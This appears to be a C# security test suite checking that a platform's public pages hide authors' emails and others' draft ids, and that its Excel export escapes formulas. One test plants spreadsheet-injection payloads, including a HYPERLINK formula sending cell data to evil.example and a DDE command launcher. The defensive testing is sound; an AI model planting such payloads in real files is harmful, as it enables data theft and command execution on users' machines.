using System.Net;
using System.Net.Http.Json;
using System.Text.Json.Nodes;
using InnoCluster.Features.Scenarios;
using InnoCluster.Infrastructure.Web;
using InnoCluster.Tests.Infrastructure;
using MiniExcelLibs;

namespace InnoCluster.SecurityTests;

/// <summary>
/// What the public sees (issue 22): no sign-in e-mail of a demand's author, no id of someone else's hidden
/// draft, and no formula in a public spreadsheet.
/// </summary>
public abstract class PublicDataTests<TTarget> : DatabaseTests<TTarget>
    where TTarget : DatabaseTarget, new()
{
    private readonly TestApp<TTarget> app;

    protected PublicDataTests(TestApp<TTarget> app)
        : base(app) => this.app = app;

    private static CancellationToken Ct => TestContext.Current.CancellationToken;

    private static async Task<JsonObject> CreateDemandAsync(HttpClient client, string title, string description)
    {
        using var response = await client.PostAsJsonAsync("/api/scenarios", new { title, description }, Ct);
        Assert.Equal(HttpStatusCode.Created, response.StatusCode);
        return (await response.Content.ReadFromJsonAsync<JsonObject>(Ct))!;
    }

    [Fact]
    public async Task PublishedDemand_DoesNotShowItsAuthorsSignInEmail()
    {
        var author = await TestUsers.CreateAsync(app, [Roles.ScenarioOwner]);
        var owner = await TestUsers.TokenClientAsync(app, author);
        var official = await TestUsers.TokenClientAsync(app, await TestUsers.CreateAsync(app, [Roles.Official]));
        var id = (await CreateDemandAsync(owner, "仓库盘点机器人需求", "需要自动盘点货架的移动机器人。"))["id"]!.GetValue<int>();
        using (var published = await official.PostAsJsonAsync($"/api/demands/{id}/publish", new { sector = "AI+制造" }, Ct))
        {
            Assert.Equal(HttpStatusCode.NoContent, published.StatusCode);
        }

        var anonymous = app.CreateClient();
        foreach (var url in new[] { $"/demands/{id}", $"/api/demands/{id}", $"/api/scenarios/{id}", "/api/demands?q=盘点" })
        {
            var body = await anonymous.GetStringAsync(url, Ct);
            Assert.Contains("仓库盘点机器人需求", body, StringComparison.Ordinal);
            Assert.DoesNotContain(author.Email, body, StringComparison.OrdinalIgnoreCase);
        }
    }

    [Fact]
    public async Task PossibleDuplicate_OfAnotherOwnersDraft_IsNotNamed()
    {
        var first = await TestUsers.TokenClientAsync(app, await TestUsers.CreateAsync(app, [Roles.ScenarioOwner]));
        var second = await TestUsers.TokenClientAsync(app, await TestUsers.CreateAsync(app, [Roles.ScenarioOwner]));
        var official = await TestUsers.TokenClientAsync(app, await TestUsers.CreateAsync(app, [Roles.Official]));
        const string title = "港口集装箱智能理货识别系统需求";
        const string description = "码头集装箱箱号自动识别，残损检测，理货数据自动上传港口系统，夜间雨雾条件下稳定运行。";
        var draft = (await CreateDemandAsync(first, title, description))["id"]!.GetValue<int>();

        var others = await CreateDemandAsync(second, title, description);
        Assert.Null(others["possibleDuplicateOf"]?.GetValue<int?>());

        var own = await CreateDemandAsync(first, title, description + "另需对接海关系统。");
        Assert.Equal(draft, own["possibleDuplicateOf"]?.GetValue<int>());

        var office = await CreateDemandAsync(official, title, description);
        Assert.NotNull(office["possibleDuplicateOf"]?.GetValue<int?>());
    }

    [Fact]
    public async Task PublicCasesWorkbook_WritesAFormulaTypedIntoADemand_AsText()
    {
        var enterprise = await app.WithDbAsync(db => Microsoft.EntityFrameworkCore.EntityFrameworkQueryableExtensions.MinAsync(db.Set<InnoCluster.Features.Registry.Enterprise>(), e => e.Id, Ct));
        await app.WithDbAsync(async db =>
        {
            var now = app.Clock.GetUtcNow();
            var demand = new Demand { Title = "=HYPERLINK(\"http://evil.example/?\"&A1,\"点击查看\")", Problem = "+cmd|' /C calc'!A0", Status = DemandStatus.Published, CreatedAt = now, UpdatedAt = now };
            db.Add(demand);
            await db.SaveChangesAsync(Ct);
            var docking = new Docking { DemandId = demand.Id, EnterpriseId = enterprise, Stage = DockingStage.Landed, CreatedAt = now, UpdatedAt = now };
            docking.Steps.Add(new DockingStep { Stage = DockingStage.Landed, At = now, By = "测试", Note = "@SUM(1+1)*cmd" });
            db.Add(docking);
            await db.SaveChangesAsync(Ct);
            return 0;
        });

        await using var stream = await app.CreateClient().GetStreamAsync("/api/scenarios/cases.xlsx", Ct);
        var buffer = new MemoryStream();
        await stream.CopyToAsync(buffer, Ct);
        buffer.Position = 0;
        var cells = MiniExcel.Query(buffer, useHeaderRow: false).Cast<IDictionary<string, object?>>().SelectMany(r => r.Values).OfType<string>().ToList();
        var hyperlink = Assert.Single(cells, c => c.Contains("HYPERLINK", StringComparison.Ordinal));
        Assert.StartsWith("'=", hyperlink, StringComparison.Ordinal);
        Assert.All(cells, c => Assert.False(c.Length > 0 && c[0] is '=' or '+' or '@', c));
    }
}

public sealed class SqlitePublicDataTests(TestApp<SqliteTarget> app) : PublicDataTests<SqliteTarget>(app), IClassFixture<TestApp<SqliteTarget>>;

public sealed class PostgresPublicDataTests(TestApp<PostgresTarget> app) : PublicDataTests<PostgresTarget>(app), IClassFixture<TestApp<PostgresTarget>>;
